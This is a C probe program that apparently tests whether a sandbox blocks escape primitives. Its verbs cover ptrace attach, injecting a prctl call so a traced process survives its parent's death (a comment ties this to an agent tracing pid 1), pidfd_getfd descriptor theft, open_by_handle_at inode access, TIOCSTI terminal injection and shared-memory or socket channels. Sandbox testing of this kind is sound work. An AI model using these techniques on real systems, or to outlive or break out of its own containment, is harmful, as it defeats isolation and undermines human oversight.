/* What a shell cannot try: system calls, one a command. Exit 0 where it worked. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/ptrace.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int done(const char *what, long r)
{
	if (r != -1)
		return 0;
	perror(what);
	return 1;
}

static int abstract(const char *name, int listening)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int s = socket(AF_UNIX, SOCK_STREAM, 0);
	socklen_t n = offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name);
	strncpy(a.sun_path + 1, name, sizeof a.sun_path - 2);
	if (!listening)
		return done("connect", connect(s, (void *)&a, n));
	if (bind(s, (void *)&a, n) == -1 || listen(s, 1000) == -1)
		return done("listen", -1);
	for (;;)
		close(accept(s, NULL, NULL));
}

static int trace(pid_t pid)
{
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == -1)
		return done("ptrace", -1);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return 0;
}

/* Finds a system call instruction under the tracee's feet and lets it make the
 * call that takes its own death signal away, as an agent could where nothing
 * keeps it from tracing pid 1. */
static int immortal(pid_t pid)
{
#ifdef __x86_64__
	struct { unsigned long r15, r14, r13, r12, rbp, rbx, r11, r10, r9, r8, rax, rcx, rdx, rsi, rdi, orig_rax, rip, cs, eflags, rsp, ss, fs, gs, ds, es, f, g; } old, new;
	struct iovec io = { &old, sizeof old };
	int st;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) == -1 || waitpid(pid, &st, __WALL) != pid)
		return done("ptrace", -1);
	if (ptrace(PTRACE_GETREGSET, pid, 1, &io) == -1)
		return done("getregs", -1);
	new = old;
	new.rax = SYS_prctl;
	new.orig_rax = -1;
	new.rdi = 1; /* PR_SET_PDEATHSIG */
	new.rsi = 0;
	new.rip = old.rip - 2; /* the syscall instruction it sleeps in */
	io.iov_base = &new;
	if (ptrace(PTRACE_SETREGSET, pid, 1, &io) == -1 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == -1 || waitpid(pid, &st, __WALL) != pid)
		return done("step", -1);
	io.iov_base = &new;
	ptrace(PTRACE_GETREGSET, pid, 1, &io);
	int ok = new.rax == 0;
	io.iov_base = &old;
	old.rip = old.orig_rax == (unsigned long)-1 ? old.rip : old.rip - 2;
	old.rax = old.orig_rax == (unsigned long)-1 ? old.rax : old.orig_rax;
	old.orig_rax = -1;
	ptrace(PTRACE_SETREGSET, pid, 1, &io);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	return ok ? 0 : 1;
#else
	return 1;
#endif
}

/* Every process that can be named: is one of it traceable, or its memory open? */
static int steal(pid_t pid)
{
	int pidfd = syscall(SYS_pidfd_open, pid, 0);
	for (int fd = 3; fd < 64; fd++)
		if (syscall(438 /* pidfd_getfd */, pidfd, fd, 0) != -1)
			return 0;
	return done("pidfd_getfd", -1);
}

static int handle(const char *path, const char *want)
{
	/* The inode under a mask, by the handle of the folder above: needs a
	 * capability, unless the kernel is talked out of it. */
	union { struct file_handle h; char room[256]; } u;
	int mnt;
	char buf[64];
	u.h.handle_bytes = sizeof u - sizeof u.h;
	if (name_to_handle_at(AT_FDCWD, path, &u.h, &mnt, 0) == -1)
		return done("name_to_handle_at", -1);
	int at = open(want, O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(at, &u.h, O_RDONLY);
	return done("open_by_handle_at", fd == -1 ? -1 : read(fd, buf, sizeof buf));
}

int main(int argc, char **argv)
{
	const char *c = argc > 1 ? argv[1] : "", *a = argc > 2 ? argv[2] : "", *b = argc > 3 ? argv[3] : "";
	if (!strcmp(c, "exchange"))
		return done(c, syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */));
	if (!strcmp(c, "listen") || !strcmp(c, "connect"))
		return abstract(a, c[0] == 'l');
	if (!strcmp(c, "trace"))
		return trace(atoi(a));
	if (!strcmp(c, "immortal"))
		return immortal(atoi(a));
	if (!strcmp(c, "steal"))
		return steal(atoi(a));
	if (!strcmp(c, "handle"))
		return handle(a, b);
	if (!strcmp(c, "shm"))
		return done(c, shmget(atoi(a), 4096, 0) == -1 ? -1 : 0);
	if (!strcmp(c, "mkshm"))
		return done(c, shmget(atoi(a), 4096, 0600 | IPC_CREAT));
	if (!strcmp(c, "tiocsti"))
		return ioctl(0, TIOCSTI, "x") == -1 ? errno : 0;
	if (!strcmp(c, "linkfd")) {
		char p[64];
		int fd = open(a, O_PATH);
		snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
		return done(c, linkat(AT_FDCWD, p, AT_FDCWD, b, AT_SYMLINK_FOLLOW));
	}
	fprintf(stderr, "no such attack: %s\n", c);
	return 99;
}
